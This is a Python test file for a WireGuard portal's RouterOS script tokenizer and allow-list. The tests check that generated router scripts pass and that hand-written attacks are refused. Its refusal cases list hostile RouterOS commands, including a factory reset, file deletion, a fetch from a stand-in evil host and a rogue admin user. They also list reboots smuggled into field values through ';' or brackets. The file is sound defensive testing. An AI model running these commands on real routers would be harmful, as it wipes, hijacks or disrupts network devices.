"""The RouterOS tokenizer and allow-list (tests/routeros/rsc_tokenizer.py) that the fuzz tests judge every `.rsc`
with: it accepts the golden script, refuses hand-written attacks, and `render_rsc` passes it for any input."""

from __future__ import annotations

from ipaddress import IPv4Address, IPv4Network
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.wireguard.render import PeerConfig, render_rsc, routeros_string
from tests import vectors
from tests.fuzz.support import fuzz, hostile_text
from tests.routeros.rsc_tokenizer import ScriptError, tokenize, validate

GOLDEN = (Path(__file__).parent.parent / "golden" / "router.rsc").read_text()
ADD_INTERFACE = '/interface wireguard add name=wg-portal listen-port=13231 mtu=1420 private-key="k" comment="c"'


def test_the_golden_script_is_accepted():
    validate(GOLDEN)


def test_strings_decode_every_escape_and_words_keep_their_place():
    tokens = tokenize('/ip address add comment="a\\"b\\\\c\\$d\\?e\\_f\\n\\C3\\A9"; #x\n:put \\\n 1')
    assert [(token.kind, token.text) for token in tokens] == [
        ("word", "/ip"), ("word", "address"), ("word", "add"), ("word", "comment="), ("string", 'a"b\\c$d?e f\né'),
        ("end", ";"), ("end", "\n"), ("word", ":put"), ("word", "1")]
    assert tokens[4].glued and not tokens[8].glued and tokens[8].line == 3


@pytest.mark.parametrize("script", [
    '/interface wireguard add comment="$name"',  # variable substitution in a string
    '/interface wireguard add comment="why?"',  # console help
    '/interface wireguard add comment="open',
    '/interface wireguard add comment="\\q"',
    '/interface wireguard add comment="\\C3"',  # half a UTF-8 character
    '/interface wireguard add comment="two\nlines"',
    "# a comment that goes on \\\n/system reboot",
    "/ip address add address=10.0.0.1/24 \\ interface=wg-portal",
])
def test_the_tokenizer_refuses_what_would_change_meaning_on_a_router(script):
    with pytest.raises(ScriptError):
        tokenize(script)


GOOD_LINE = '/ip address add address=10.100.0.2/16 interface=wg-portal comment="vpn-portal:cfg-42"'


@pytest.mark.parametrize("script", [
    "/system reset-configuration",
    "/system script add source=x",
    "/file remove [find]",
    '/tool fetch url="http://evil.example/x.rsc"',
    "/user add name=evil group=full password=x",
    ':execute "/system reboot"',
    ":global x 1",
    ':do { /system reboot } on-error={}',
    ':parse "/system reboot"',
    "/import file-name=other.rsc",
    "/ip address set [find] address=1.2.3.4/32",
    "/ip firewall nat add chain=dstnat action=dst-nat",
    "/interface/wireguard/add name=x",  # the slash form of a menu
    GOOD_LINE + "; /system reboot",
    GOOD_LINE + " disabled=yes",  # a key the portal does not give
    GOOD_LINE.replace("interface=wg-portal", "interface=$iface"),
    GOOD_LINE.replace("interface=wg-portal", "interface=[/system reboot]"),
    GOOD_LINE.replace('comment="vpn-portal:cfg-42"', "comment=unquoted"),
    GOOD_LINE.replace('comment="vpn-portal:cfg-42"', 'comment= "detached"'),
    GOOD_LINE + ' comment="twice"',
    GOOD_LINE.replace("10.100.0.2/16", "10.100.0.2/16,1.2.3.4/0"),
    '/ip address remove [find where comment~"x"] [/system reboot]',
    "/ip address remove [find where disabled=yes]",
    "/ip address remove [/system script find]",
    ADD_INTERFACE.replace("private-key=", "private-key=[:pick [/system script find where name=x] 0] x="),
    ':if ([:len [/ip firewall filter find where dynamic=no]] > 0) do={ /system reboot }',
    ':if ([:len [/system script find where dynamic=no]] > 0) do={}',
    ':if ([:len [/ip firewall filter find where dynamic=no]] > $n) do={}',
    '/ip firewall filter add chain=input action=accept place-before=[:pick [/system script find where dynamic=no] 0]',
    "# caf\u00e9 is not ASCII",
    GOOD_LINE.replace("comment=", "comment=\x1b"),
    "}",
])
def test_the_allow_list_refuses_everything_the_portal_does_not_emit(script):
    with pytest.raises(ScriptError):
        validate(script)


@fuzz(examples=300)
@given(value=st.text())
def test_routeros_string_round_trips_any_text_as_one_string_token(value):
    [token] = tokenize(routeros_string(value))
    assert token.kind == "string" and token.text == value


@fuzz(examples=200)
@given(name=hostile_text(), host=hostile_text(), key=hostile_text(), configuration_id=st.integers(0, 2**31 - 1))
def test_render_rsc_passes_the_allow_list_whatever_it_is_given(name, host, key, configuration_id):
    validate(render_rsc(PeerConfig(
        configuration_id=configuration_id, router_name=name, address=IPv4Address("10.100.0.2"),
        subnet=IPv4Network("10.100.0.0/24"), hub_address=IPv4Address("10.100.0.1"), private_key=key,
        preshared_key=key, hub_public_key=vectors.HUB_PUBLIC_KEY, hub_endpoint_host=host, hub_endpoint_port=51820)))
